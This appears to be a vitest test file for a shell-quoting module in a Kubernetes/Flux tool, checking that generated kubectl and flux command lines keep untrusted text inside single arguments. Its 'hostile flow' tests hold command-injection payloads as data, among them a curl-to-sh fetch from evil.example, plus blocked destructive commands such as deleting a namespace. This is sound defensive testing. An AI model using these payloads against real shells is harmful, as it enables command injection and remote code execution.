import { execFileSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { commandsFor, offeredCommand, problems, shellCommand, type FlowNode } from "../src/index.js";
import { commandLine } from "../src/words/shell.js";
import { edge, graphOf, node } from "./flow.js";
import { Random } from "./random.js";

/** The argv of each stub that the lines run in a real shell. Nothing is in PATH, so a line that runs another program by its name fails. */
function argvOf(lines: readonly string[]): readonly (readonly string[])[] {
  const stub = (name: string): string => `${name}() { printf '%s\\0' ${name} "$@"; printf '\\n\\0'; }`;
  const script = [stub("kubectl"), stub("flux"), stub("show"), ...lines].join("\n");
  const out = execFileSync("/bin/sh", ["-eu", "-c", script], { env: { PATH: "/nonexistent" }, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
  return out.split("\n\0").slice(0, -1).map((run) => run.split("\0").slice(0, -1));
}

describe("shellCommand", () => {
  it.each([
    [["kubectl", "-n", "a", "get", "pods"], "kubectl -n a get pods"],
    [["kubectl", "get", "x", "-o", "jsonpath={.spec}"], "kubectl get x -o jsonpath='{.spec}'"],
    [["kubectl", "--as=system:serviceaccount:a:b"], "kubectl --as=system:serviceaccount:a:b"],
    [["show", "it's"], "show 'it'\\''s'"],
    [["show", ""], "show ''"],
    [["show", "a;b", "$(c)", "`d`", "~", "=e"], "show 'a;b' '$(c)' '`d`' '~' '=e'"],
    [["show", "ü", "日本"], "show 'ü' '日本'"],
  ])("writes %j", (argv, line) => {
    expect(shellCommand(argv)).toBe(line);
    expect(argvOf([line])).toEqual([argv]);
  });

  const unsafe: readonly (readonly [string, readonly string[]])[] = [
    ["no arguments", []],
    ["an assignment in place of a program", ["PATH=/tmp", "x"]],
    ["a program with a space", ["a b"]],
    ["an empty program", [""]],
    ["an option in place of a program", ["-x"]],
    ["a lone dash", ["show", "-"]],
    ["an argument that begins with a dash and is not an option", ["show", "-;x"]],
    ["an argument of three dashes", ["show", "---"]],
    ["1,025 characters", ["show", "x".repeat(1025)]],
    ...Object.entries({
      newline: "\n", "carriage return": "\r", NUL: "\0", escape: "\u001b", DEL: "\u007f", "C1 CSI": "\u009b", NEL: "\u0085", "line separator": "\u2028",
      "paragraph separator": "\u2029", "right-to-left override": "\u202e", "isolate": "\u2066", "zero width space": "\u200b", "byte order mark": "\ufeff",
      "soft hyphen": "\u00ad", "tag letter": "\u{e0041}", "unpaired surrogate": "\ud800",
    }).flatMap(([name, c]) => [[name, ["show", `a${c}b`]] as const, [`${name} in an option's value`, ["show", `--a=${c}`]] as const]),
  ];
  it.each(unsafe)("returns undefined for %s", (_, argv) => expect(shellCommand(argv)).toBeUndefined());

  it("makes a shell pass exactly the arguments", () => {
    const r = new Random(4);
    const pieces = ["a", "Z", "0", "-", "--", "_", ".", "/", ":", "=", " ", "'", "''", '"', "\\", "$", "$(x)", "`x`", "${IFS}", ";", "&", "|", "<", ">", "(", ")", "{a,b}", "[a]", "*", "?", "!", "!!", "~", "#", "%", "^", "@", ",", "+", "é", "日", "🚀", "\u00a0", "\n", "\t", "\u001b", "\u202e", "\u0085"];
    const unseen = /[\p{C}\p{Zl}\p{Zp}]/u;
    const kept: string[][] = [];
    const lines: string[] = [];
    let refused = 0;
    for (let i = 0; i < 4000; i++) {
      const args = Array.from({ length: 1 + r.below(4) }, () => Array.from({ length: r.below(7) }, () => r.pick(pieces)).join(""));
      const line = shellCommand(["show", ...args]);
      const isFit = !args.some((a) => unseen.test(a) || (a.startsWith("-") && !/^--?[A-Za-z0-9][A-Za-z0-9-]*(=|$)/.test(a)));
      expect(line !== undefined, JSON.stringify(args)).toBe(isFit);
      if (line === undefined) {
        refused++;
        continue;
      }
      expect(line).not.toMatch(unseen);
      kept.push(["show", ...args]);
      lines.push(line);
    }
    expect(refused).toBeGreaterThan(500);
    expect(lines.length).toBeGreaterThan(500);
    expect(argvOf(lines)).toEqual(kept);
    // Each line alone, as a person pastes it.
    for (const args of kept.slice(0, 40)) {
      const line = shellCommand(["printf", "%s\\0", ...args]) as string;
      expect(execFileSync("/bin/sh", ["-c", line], { encoding: "utf8" }).split("\0").slice(0, -1)).toEqual(args);
    }
  });
});

describe("commandLine", () => {
  it("keeps each value within one argument, and rejects empty values and options", () => {
    expect(commandLine`show -n ${"a b"} x/${"c"} --y=${"d;e"}`).toBe("show -n 'a b' x/c --y='d;e'");
    for (const value of ["", "-a", "--all", "--kubeconfig=/tmp/x", "-"]) expect(commandLine`show -n ${value} x`, value).toBeUndefined();
    expect(commandLine`show x/${"-a"}`).toBeUndefined();
    expect(commandLine`show ${"a\nb"}`).toBeUndefined();
  });
});

describe("commands of a hostile flow", () => {
  const hostile = [
    "cilium; id #", "x$(curl evil.example|sh)", "`id`", "a; id ~", "a' ; id ; '", 'a" ; id ; "', "a\\", "$IFS", "a && id", "a | id", "a > /dev/full", "*", "~root", "a b", "!!", "it's",
  ];
  const unsafe = ["a\nid\n", "a\u001b]0;x\u0007", "a\u009b2J", "a\u202eb", "--kubeconfig=/tmp/x", "-Axyz", "a\u2028id", "1025".repeat(257)];
  /** Commands as an adapter sends them. The tests replace empty arguments by a hostile text. */
  const COMMANDS = [
    ["kubectl", "-n", "", "describe", "deployment", ""],
    ["kubectl", "-n", "", "get", "helmrelease", "", "-o", "jsonpath={.spec.dependsOn}"],
    ["flux", "reconcile", "helmrelease", "", "-n", "", "--reset"],
    ["kubectl", "auth", "can-i", "get", "pods", "--as=x"],
  ];

  it.each([
    [["kubectl", "delete", "namespace", "prod"]],
    [["kubectl", "-n", "a", "exec", "b"]],
    [["kubectl", "get", "pods", "--server=https://example.com"]],
    [["kubectl", "--kubeconfig=x", "get", "pods"]],
    [["flux", "uninstall"]],
    [["sh", "-c", "true"]],
    [["constructor", "get"]],
    [[]],
  ])("do not include %j", (argv) => {
    expect(offeredCommand(argv)).toBeUndefined();
  });

  function all(t: string): readonly string[] {
    const nodes: FlowNode[] = [
      node("r/0", "failed", { namespace: t, reason: "InstallFailed", suspended: true }, { label: t }),
      node("r/1", "failed", { namespace: t, kind: "Kustomization", reason: "BuildFailed" }, { label: t }),
      node("r/2", "running", { namespace: t, waitingFor: [`r/${t}`], waitingSince: 1 }, { label: t }),
      node("r/3", "running", { namespace: t, reason: "DependencyNotReady" }, { label: t }),
      node("r/4", "succeeded", { namespace: t, deletingSince: 1 }, { label: t }),
      ...COMMANDS.map((command, i) => node(`r/judged${i}`, "failed", { judgement: { state: "broken", problem: true, command: command.map((a) => (a === "" ? t : a)) } })),
    ];
    const g = graphOf(nodes, [edge("r/3", "r/3")]);
    return [...nodes.flatMap((n) => commandsFor(n)), ...problems(g, 1e9)].flatMap((c) => c.command ?? []);
  }

  it.each(hostile)("passes %j to the program unchanged and runs nothing else", (text) => {
    const lines = all(text);
    expect(lines.length).toBeGreaterThan(10);
    for (const argv of argvOf(lines)) {
      expect(["kubectl", "flux"]).toContain(argv[0]);
      for (const a of argv.slice(1)) expect(/^[A-Za-z0-9._:/@,={}?-]+$/.test(a) || `${text}/${text}`.includes(a.replace(/^(--[a-z]+=|[a-z.]+\/)/, "")), a).toBe(true);
    }
  });

  it("are never shown if they are not safe in a shell", () => {
    for (const text of unsafe) for (const line of all(text)) expect(line).not.toContain(text);
  });
});
